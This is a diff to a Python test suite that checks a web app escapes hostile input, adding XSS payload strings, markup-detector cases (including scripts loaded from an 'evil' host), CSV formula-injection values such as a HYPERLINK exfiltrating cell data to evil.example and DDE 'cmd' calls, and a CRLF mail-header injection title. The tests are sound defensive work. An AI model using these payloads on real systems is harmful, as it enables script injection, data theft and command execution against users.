@@ -29,6 +29,7 @@ from dataclasses import dataclass, field
 from datetime import timedelta
 from html.parser import HTMLParser
 
+import markupsafe
 import pytest
 from markdown_it import MarkdownIt
 
@@ -51,7 +52,10 @@ from tests.test_benchmarks import AB_TEXT
 
 HX = {"HX-Request": "true"}
 
-PAYLOADS = {  # {m} is the field's marker; every payload fits the shortest field (60 chars)
+# {m} is the field's marker; every payload fits the shortest field (60 chars). A payload that
+# would inject an element carries the marker where an injected element is recognisable by it
+# (a script body, an attribute name or value, a tag name) or has a handler or a bad URL.
+PAYLOADS = {
     "script": "<script>alert('{m}')</script>",
     "img": "<img src=x onerror=alert('{m}')>",
     "svg": "<svg/onload=alert('{m}')>",
@@ -64,10 +68,10 @@ PAYLOADS = {  # {m} is the field's marker; every payload fits the shortest field
     "mdimage": "![{m}](x\" onerror=\"alert('{m}'))",
     "ahref": "<a href=\"javascript:alert(1)\">{m}</a>",
     "probe": "</textarea></title><xss-probe>{m}",
-    "htmx": "<div hx-get=\"/logout\" hx-trigger=\"load\">{m}</div>",
+    "htmx": "<div hx-post=\"/logout\" hx-trigger=\"load\" {m}>x</div>",
     "iframe": "<iframe srcdoc=\"<b>{m}</b>\"></iframe>",
     "details": "<details open ontoggle=alert('{m}')>",
-    "style": "<p style=\"background:url(javascript:x)\">{m}</p>",
+    "style": "<p {m} style=\"background:url(javascript:x)\">x</p>",
 }
 FIELDS = {
     "tn": "team name", "dn": "display name", "rt": "review title", "rq": "review question",
@@ -79,6 +83,9 @@ FIELDS = {
     "fn": "file name", "dr": "decision rationale", "dc": "decision consequences",
     "dt": "decision tag", "so": "sign-off reason", "in": "invitation note", "tk": "token name",
 }
+
+
+PERMISSIVE_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 
 
 def marker(payload: str, code: str) -> str:
@@ -346,6 +353,40 @@ def test_payloads_fit_every_field():
     assert all(len(p.format(m=marker(name, "xx"))) <= 60 for name, p in PAYLOADS.items())
 
 
+@pytest.mark.parametrize("name", sorted(PAYLOADS))
+def test_the_checker_sees_each_payload_when_it_is_not_escaped(name):
+    """The judge is not blind: each payload pasted raw into a page (text, a double-quoted and
+    a single-quoted attribute, an href, Markdown rendered with raw HTML on) is reported."""
+    text = PAYLOADS[name].format(m=marker(name, "tn"))
+    raw_contexts = [f"<p>{text}</p>", f'<input value="{text}">', f"<input value='{text}'>",
+                    f'<a href="{text}">x</a>', PERMISSIVE_MARKDOWN.render(text)]
+    seen = [bool(injected(html)) or template_ran(Page(html.replace("{{7*7}}", "49")), name)
+            for html in raw_contexts]
+    assert any(seen), name
+    # ... while the same text escaped (as Jinja does) is fine everywhere.
+    escaped = markupsafe.escape(text)
+    assert not injected(f'<p>{escaped}</p><input value="{escaped}"><input value=\'{escaped}\'>')
+
+
+@pytest.mark.parametrize("html", [
+    "<svg/onload=alert(1)>", "<a href=' javascript:alert(1)'>x</a>", "<a href=\"JaVa&#x09;Script:x\">",
+    "<img src=x onerror=alert(1)>", "<iframe src=/></iframe>", "<xss-probe>", "<b xss00tn>",
+    "<div hx-on:click=alert(1)>", "<form action=javascript:alert(1)>", "<script src=//evil/x.js>",
+    "<script>alert('xss00tn')</script>", "<form onsubmit=\"return this.hasAttribute('hx-post') "
+    "|| confirm(1);alert(2)\">", "<div hx-get=\"javascript:alert(1)\">",
+    "<base href=//evil/>", "<p style=\"x:xss00tn\">", "<div hx-vals='{\"a\": \"xss00tn\"}'>",
+])
+def test_the_checker_reports_injected_markup(html):
+    assert injected(html), html
+
+
+def test_the_checker_accepts_the_apps_own_confirm_handler():
+    message = json.dumps("Delete “<script>xss00tn</script>”?")
+    html = (f'<form onsubmit="return this.hasAttribute(\'hx-post\') || confirm({markupsafe.escape(message)})">'
+            '<button hx-post="/reviews/1/checklist/script_xss00cq/remove">x</button></form>')
+    assert injected(html) == []
+
+
 def test_every_typed_field_is_inert_on_every_surface(app, hostile):
     surfaces = html_surfaces(app, hostile, "open")
     surfaces |= pushed_fragments(hostile)
@@ -378,9 +419,6 @@ def test_every_typed_field_is_inert_on_every_surface(app, hostile):
 
 
 # --- exports ----------------------------------------------------------------------------------
-
-PERMISSIVE_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
-
 
 def test_exports_are_inert(app, hostile):
     vote_and_decide(hostile)
@@ -436,7 +474,7 @@ def assert_formula_safe(text: str) -> list[list[str]]:
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C x'",
-            "@SUM(1+1)*cmd|' /C x'", "\t=1+1", "\r=1+1", "=1+1"]
+            "@SUM(1+1)*cmd|' /C x'", "\t=2+2", "\r=3+3", "=1+1"]  # names are stripped
 
 
 def test_csv_export_neutralises_formulas_in_every_typed_cell(app, world):
@@ -455,5 +493,17 @@ def test_csv_export_neutralises_formulas_in_every_typed_cell(app, world):
         rows = assert_formula_safe(r.get_data(as_text=True))
         cells = {cell for row in rows for cell in row}
         for formula in FORMULAS:
-            shown = formula.strip()[:80] if formula[0] in "\t\r" else formula[:60]
-            assert any(c.startswith("'") and shown.strip() in c for c in cells), formula
+            assert "'" + formula.strip()[:60] in cells, formula
+
+
+def test_typed_line_breaks_cannot_inject_mail_headers(app, world, caplog):
+    """A title with CR/LF (the API and a crafted form accept it) reaches mail subjects: it
+    must neither add a header nor make opening the vote fail."""
+    review = reviews.create_review(world.users["owner"], world.team,
+                                   title="Pick\r\nBcc: victim@example.com\r\nX-Evil: 1",
+                                   question="", template="blank", extra_candidates=["A", "B"])
+    caplog.set_level("INFO", logger="app.mail")
+    votes.open_vote(world.users["facilitator"], review, votes.VoteSettings("single"))
+    subjects = [r.args[1] for r in caplog.records if r.name == "app.mail"]
+    assert subjects and all("\r" not in s and "\n" not in s for s in subjects)
+    assert all("Bcc: victim@example.com" in s for s in subjects)  # kept as text, one line
